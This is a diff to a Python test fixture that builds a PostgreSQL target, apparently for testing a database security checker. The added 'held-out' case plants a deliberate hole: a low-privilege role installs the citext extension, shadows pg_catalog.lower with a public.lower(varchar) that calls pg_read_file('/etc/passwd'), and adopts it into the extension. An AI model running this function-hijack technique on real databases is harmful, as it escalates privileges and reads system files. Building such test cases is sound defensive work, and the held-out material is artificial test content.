@@ -168,6 +168,22 @@ def postgres_target() -> Iterator[Target]:
                 f"GRANT SELECT ON public.rt_notas, public.rt_rls TO {ro}",
                 "RESET ROLE",
                 f"REVOKE CREATE ON SCHEMA public FROM {lp}",
+                # held-out: a login with CREATE on the database installs a trusted extension (it owns it), then
+                # adopts its own overload of a built-in into it: public.lower(varchar) beats pg_catalog.lower(text)
+                # for a varchar argument, and an extension member looks like trusted extension code
+                "CREATE TABLE public.rt_contatos (id int, nome varchar(80))",
+                "INSERT INTO public.rt_contatos VALUES (1, 'Ana')",
+                f"GRANT SELECT ON public.rt_contatos TO {ro}",
+                f'GRANT CREATE ON DATABASE "{database}" TO {lp}',
+                f"GRANT CREATE ON SCHEMA public TO {lp}",
+                f"SET ROLE {lp}",
+                "CREATE EXTENSION IF NOT EXISTS citext SCHEMA public",
+                "CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE sql "
+                "AS $f$SELECT pg_read_file('/etc/passwd')$f$",
+                "ALTER EXTENSION citext ADD FUNCTION public.lower(varchar)",
+                "RESET ROLE",
+                f"REVOKE CREATE ON SCHEMA public FROM {lp}",
+                f'REVOKE CREATE ON DATABASE "{database}" FROM {lp}',
                 "CREATE VIEW public.v_clientes_legit AS SELECT id, upper(nome) AS nome FROM clientes",
                 "CREATE VIEW public.v_de_visao AS SELECT * FROM v_relatorio",
                 f"GRANT SELECT ON public.v_clientes_legit, public.v_de_visao TO {ro}",
